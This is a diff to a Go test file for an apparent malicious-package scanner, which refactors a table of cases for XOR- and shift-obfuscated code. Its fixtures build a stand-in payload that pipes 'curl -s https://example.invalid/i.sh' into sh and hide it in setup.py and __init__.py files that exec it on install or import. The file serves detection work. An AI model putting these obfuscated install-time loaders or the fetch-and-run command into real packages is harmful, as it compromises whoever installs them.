@@ -30,12 +30,7 @@ func xorWithKey(s, key string) []byte {
 func TestCipherBehaviours(t *testing.T) {
 	payload := "import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n"
 	shifted := strings.Map(func(r rune) rune { return r + 1 }, "curl -s https://example.invalid/i.sh | sh")
-	tests := []struct {
-		name    string
-		files   map[string]string
-		rule    string
-		verdict Verdict
-	}{
+	tests := []verdictCase{
 		{"XOR with a repeating key, run at install", map[string]string{"setup.py": "k = b'sg3'\nd = " + pyHexBytes(xorWithKey(payload, "sg3")) +
 			"\nexec(bytes(c ^ k[i % len(k)] for i, c in enumerate(d)))\n"}, "exec-obfuscated", Malicious},
 		{"XOR loop in a helper, run on import", map[string]string{"p/__init__.py": "def _d(data, key):\n    out = ''\n    for i in range(len(data)):\n        out += chr(data[i] ^ key)\n    return out\nexec(_d(" +
@@ -44,15 +39,5 @@ func TestCipherBehaviours(t *testing.T) {
 		{"websocket frame masking", map[string]string{"p/ws.py": "import os\ndef mask(data):\n    key = os.urandom(4)\n    return key + bytes(b ^ key[i % 4] for i, b in enumerate(data))\n"}, "", Clean},
 		{"a table of shifted letters", map[string]string{"p/rot.py": "ALPHA = 'abcdefghijklmnopqrstuvwxyz'\nSHIFTED = ''.join(chr(ord(c) + 1) for c in ALPHA)\ndef encode(s):\n    return s.translate(str.maketrans(ALPHA, SHIFTED))\n"}, "", Clean},
 	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			r := sdist(t, tt.files)
-			if r.Verdict != tt.verdict {
-				t.Errorf("verdict %s, want %s; findings: %+v", r.Verdict, tt.verdict, r.Findings)
-			}
-			if tt.rule != "" && !hasRule(r, tt.rule, Critical) {
-				t.Errorf("no critical %s finding: %+v", tt.rule, r.Findings)
-			}
-		})
-	}
+	runVerdictCases(t, tests, nil)
 }
